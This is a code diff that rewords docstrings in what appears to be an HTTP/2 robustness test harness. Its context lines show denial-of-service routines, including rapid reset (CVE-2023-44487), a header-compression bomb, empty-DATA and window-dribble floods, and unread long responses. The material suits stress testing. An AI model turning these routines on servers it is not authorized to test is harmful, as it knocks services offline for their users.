@@ -45,7 +45,7 @@ def greet(target: Target, peer: int, **values: int) -> socket.socket:
 
 
 def flood(target: Target, seconds: float, begin: bytes, more: bytes, reads: bool = True) -> Outcome:
-    """Sends the same again and again, on one connection after the other; counts how each ends."""
+    """Sends the same bytes repeatedly, on one connection after the other; counts the ends of connections by kind."""
     outcome: Outcome = Counter()
     deadline = time.monotonic() + seconds
     while time.monotonic() < deadline:
@@ -58,7 +58,7 @@ def flood(target: Target, seconds: float, begin: bytes, more: bytes, reads: bool
 
 
 def pour(connection: socket.socket, begin: bytes, more: bytes, deadline: float, reads: bool) -> tuple[bytes | None, int]:
-    """What the server said in the end, or nothing if it never had enough; and how many bytes were sent."""
+    """Returns the last data of the server, or None if it never closed the connection, and the number of sent bytes."""
     heard = bytearray()
     sent = 0
     connection.setblocking(False)
@@ -74,7 +74,7 @@ def pour(connection: socket.socket, begin: bytes, more: bytes, deadline: float, 
             return bytes(heard) + read_to_end(connection, 1)[0], sent
         try:
             while reads and (piece := connection.recv(1 << 20)):
-                # Only the last words matter, and the first are whole frames.
+                # Only the last bytes matter.
                 heard = heard[-65536:] + piece if len(heard) > 1 << 20 else heard + piece
             if reads:
                 return bytes(heard), sent
@@ -86,7 +86,7 @@ def pour(connection: socket.socket, begin: bytes, more: bytes, deadline: float, 
 
 
 def in_one_breath(target: Target, seconds: float, rows: bytes, what: str) -> Outcome:
-    """Sends all of this at once, on one connection after the other, each of which the server has to close."""
+    """Sends all of this in one write, on one connection after the other, each of which the server has to close."""
     outcome: Outcome = Counter()
     deadline = time.monotonic() + seconds
     while time.monotonic() < deadline:
@@ -104,14 +104,14 @@ def in_one_breath(target: Target, seconds: float, rows: bytes, what: str) -> Out
 
 
 def rapid_reset(target: Target, seconds: float) -> Outcome:
-    """Requests that are reset in the same breath, ten thousand in a row (CVE-2023-44487)."""
+    """Requests that are reset immediately, ten thousand in a row (CVE-2023-44487)."""
     paths = [LONG.format(key=target.key, number=f"reset-{number}") for number in range(100)]
     rows = b"".join(request(1 + 2 * number, paths[number % 100]) + reset(1 + 2 * number) for number in range(10_000))
     return in_one_breath(target, seconds, rows, "ten thousand requests are reset at once")
 
 
 def paced_reset(target: Target, seconds: float) -> Outcome:
-    """Requests that are reset when the server has begun on them."""
+    """Requests that are reset after the server has begun their responses."""
     outcome: Outcome = Counter()
     deadline = time.monotonic() + seconds
     while time.monotonic() < deadline:
@@ -154,7 +154,7 @@ def empty_continuations(target: Target, seconds: float) -> Outcome:
 
 
 def header_bomb(target: Target, seconds: float) -> Outcome:
-    """One long field in the table, and a thousand times its number: fields of 64 MB in 16 kB, again and again."""
+    """One long field in the table, and a thousand references to it: header sections of 64 MB in 16 kB, repeatedly."""
     outcome: Outcome = Counter()
     first = frame(HEADERS, END_HEADERS | END_STREAM, 1, asks("/healthz", "GET", remembered("x", "y" * 4000)))
     bomb = integer(62, 7, 0x80) * (FRAME_BYTES_MAX - 100)
@@ -194,13 +194,13 @@ def priority_flood(target: Target, seconds: float) -> Outcome:
 
 
 def empty_data(target: Target, seconds: float) -> Outcome:
-    """A body in pieces of nothing (CVE-2019-9518)."""
+    """A body of empty DATA frames (CVE-2019-9518)."""
     begin = frame(HEADERS, END_HEADERS, 1, asks("/ghost/api/admin/session/", "POST"))
     return flood(target, seconds, begin, frame(DATA, 0, 1) * 1000)
 
 
 def window_dribble(target: Target, seconds: float) -> Outcome:
-    """A long reply is taken byte by byte (CVE-2019-9511)."""
+    """A long response with windows of one byte (CVE-2019-9511)."""
     path = LONG.format(key=target.key, number="dribble")
     outcome: Outcome = Counter()
     deadline = time.monotonic() + seconds
@@ -218,7 +218,7 @@ def window_dribble(target: Target, seconds: float) -> Outcome:
 
 
 def never_reading(target: Target, _seconds: float) -> Outcome:
-    """On each of forty connections a hundred long responses, each made for one request alone, and no window for any."""
+    """On each of forty connections a hundred long uncached responses, and no window for any."""
     before = target.open_files()
     connections = []
     for number in range(UNREAD_CONNECTIONS):
